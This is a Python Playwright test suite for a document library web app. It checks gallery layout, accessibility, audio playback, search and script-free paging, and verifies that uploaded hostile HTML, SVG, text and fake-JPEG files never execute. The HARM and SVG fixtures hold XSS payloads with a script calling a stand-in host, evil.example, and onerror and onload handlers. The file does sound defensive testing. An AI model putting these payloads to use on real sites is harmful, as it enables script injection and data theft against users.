"""Documents in a real browser: pictures, players, pages of text, and files that mean harm."""

from __future__ import annotations

from collections.abc import Iterator
from typing import NamedTuple

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.axe import faults
from tests.browser.conftest import Open, looking
from tests.unit.web.documents.conftest import shelved
from tests.unit.web.documents.folder import SOURCE, jpeg, pdf, tone
from tests.unit.web.documents.stage import opened
from windrow.model.document import Heading
from windrow.model.file_content import Extract
from windrow.search.record_addresses import DocumentPart, document_path, record_path

HARM = "<script>window.harmed = 1; fetch('//evil.example/x')</script><img src=x onerror='window.harmed = 1'>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="window.harmed = 1">{HARM}</svg>'
PAGES = ("Of meadows. " * 200, "Of rain. " * 300, "Of hay. " * 600 + "The scythe, sharp. " + "Of hay. " * 600)


class Barn(NamedTuple):
    """A served library of documents, with their identifiers."""

    url: str
    names: dict[str, str]

    def record(self, name: str) -> str:
        return record_path(SOURCE, self.names[name])

    def path(self, part: DocumentPart, name: str, **query: str | int) -> str:
        return document_path(part, SOURCE, self.names[name], **query)


@pytest.fixture(scope="module")
def barn(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Barn]:
    path = tmp_path_factory.mktemp("barn")
    with shelved(path) as folder:
        names = {name: folder.add(name, *made) for name, made in _files().items()}
        for number in range(30):
            said = (("title", f"Car {number} on the road with a longer title than there is room for"),)
            folder.add(f"radar/{number}.jpg", jpeg(), Extract("image/jpeg", said=said))
        with opened(path / "library", folder) as portal:
            yield Barn(portal.server.url, names)


def _files() -> dict[str, tuple[bytes, Extract]]:
    report = Extract(
        "application/pdf",
        said=(("title", "Mowing"), ("language", "en")),
        text=PAGES,
        is_paged=True,
        headings=(Heading("Tools", 1, 3),),
    )
    return {
        "hum.wav": (tone(0.2), Extract("audio/wav", said=(("title", "A hum"),))),
        "photo.jpg": (jpeg(640, 480), Extract("image/jpeg", said=(("title", "A photo"),))),
        "report.pdf": (pdf(["one", "two", "three"]), report),
        "evil.svg": (SVG.encode(), Extract("image/svg+xml", said=(("title", SVG),), text=(SVG,))),
        "evil.html": (HARM.encode(), Extract("text/html", said=(("title", HARM),), text=(HARM,))),
        "evil.txt": (HARM.encode(), Extract("text/plain", text=(HARM,))),
        "evil.jpg": (HARM.encode(), Extract("image/jpeg")),  # which only says that it is a picture
    }


@pytest.fixture
def enter(browser: Browser, barn: Barn, request: pytest.FixtureRequest) -> Iterator[Open]:
    with looking(browser, barn.url, request.node.name) as windows:
        yield windows


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (320, "dark")])
def test_the_gallery_fits_its_window_and_pictures_come_as_they_are_reached(
    enter: Open, width: int, scheme: str
) -> None:
    page = enter(color_scheme=scheme, viewport={"width": width, "height": 900}).go("/gallery")
    assert page.evaluate("document.scrollingElement.scrollWidth - window.innerWidth") <= 0
    last = page.get_by_role("listitem").get_by_role("img").last
    last.scroll_into_view_if_needed()
    expect(last).to_have_js_property("naturalWidth", 320)


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "dark")])
def test_no_page_of_documents_keeps_anybody_out(enter: Open, barn: Barn, width: int, scheme: str) -> None:
    look = enter(color_scheme=scheme, viewport={"width": width, "height": 900})
    paths = ("/", "/browse/by/folder?in=radar", "/search?q=scythe", barn.record("report.pdf"))
    for path in (*paths, barn.record("hum.wav"), barn.path("text", "report.pdf", q="scythe"), "/gallery"):
        page = look.go(path)
        assert faults(page) == [], path
        assert page.evaluate("document.scrollingElement.scrollWidth - window.innerWidth") <= 0, path


def test_a_picture_is_reached_by_keys_alone(enter: Open, barn: Barn) -> None:
    page = enter().go("/gallery?q=photo")
    page.get_by_role("link", name="A photo").focus()
    page.keyboard.press("Enter")
    expect(page).to_have_url(barn.url + barn.record("photo.jpg"))
    expect(page.get_by_role("img", name="A photo")).to_have_js_property("complete", value=True)


def test_a_sound_recording_plays_on_the_page_of_its_record(enter: Open, barn: Barn) -> None:
    page = enter().go(barn.record("hum.wav"))
    expect(page.locator("audio")).to_have_js_property("readyState", 0)  # nothing is loaded by itself
    ended = page.evaluate(
        """() => new Promise((done, failed) => {
          const player = document.querySelector('audio');
          player.muted = true;
          player.addEventListener('ended', () => done(player.duration));
          player.addEventListener('error', () => failed(player.error.message));
          player.play().catch(failed);
        })"""
    )
    assert ended == pytest.approx(0.2, abs=0.05)


def test_the_original_of_a_recording_plays_by_itself(enter: Open, barn: Barn) -> None:
    page = enter().go(barn.path("original", "hum.wav"))
    expect(page.locator("video, audio")).to_have_js_property("duration", 0.2)


def test_a_hit_leads_to_its_page_and_its_place_there(enter: Open, barn: Barn) -> None:
    page = enter().go("/search?q=scythe")
    page.get_by_role("link", name="Page 3").click()
    expect(page).to_have_url(barn.url + barn.path("text", "report.pdf", page=3, q="scythe") + "#hit")
    expect(page.locator("mark")).to_have_text("scythe")
    expect(page.locator("mark#hit")).to_be_in_viewport()
    expect(page.get_by_role("img", name="Picture of page 3")).to_be_visible()


def test_leafing_works_without_scripts(enter: Open, barn: Barn) -> None:
    page = enter(java_script_enabled=False).go(barn.record("report.pdf"))
    page.get_by_role("link", name="Tools").click()
    expect(page.get_by_text("Page 3 of 3")).to_be_visible()
    page.get_by_role("link", name="Previous page").click()
    expect(page.get_by_text("Page 2 of 3")).to_be_visible()
    page.get_by_label("Go to page").fill("1")
    page.get_by_role("button", name="Go", exact=True).click()
    expect(page.get_by_text("Page 1 of 3")).to_be_visible()


@pytest.mark.parametrize("name", ["evil.svg", "evil.html"])
def test_a_page_in_disguise_is_saved_and_never_opened(enter: Open, barn: Barn, name: str) -> None:
    page = enter().go(barn.record(name))
    with page.expect_download() as saved:
        page.get_by_role("link", name="Original file").click()
    assert saved.value.suggested_filename == name
    assert not page.evaluate("'harmed' in window")


def test_the_text_of_a_page_in_disguise_is_only_text(enter: Open, barn: Barn) -> None:
    look = enter()
    for name in ("evil.svg", "evil.html", "evil.txt"):
        page = look.go(barn.path("text", name))
        expect(page.locator(".leaf-text")).to_contain_text("<script>")
        assert not page.evaluate("'harmed' in window"), name


def test_a_file_is_shown_as_what_it_says_to_be_and_as_nothing_else(enter: Open, barn: Barn) -> None:
    look = enter()
    for name in ("evil.txt", "evil.jpg"):
        page = look.go(barn.path("original", name))
        assert not page.evaluate("'harmed' in window"), name
        assert page.locator("script").count() == 0


def test_a_drawing_as_a_picture_of_another_page_runs_nothing(enter: Open, barn: Barn) -> None:
    page = enter().go("/gallery?q=photo")
    drawn = page.evaluate(
        """(address) => new Promise((done) => {
          const picture = new Image();
          picture.onload = () => done('drawn');
          picture.onerror = () => done('refused');
          picture.src = address;
        })""",
        barn.path("original", "evil.svg"),
    )
    assert drawn == "refused"  # octets are no picture, and nobody may guess
    assert not page.evaluate("'harmed' in window")
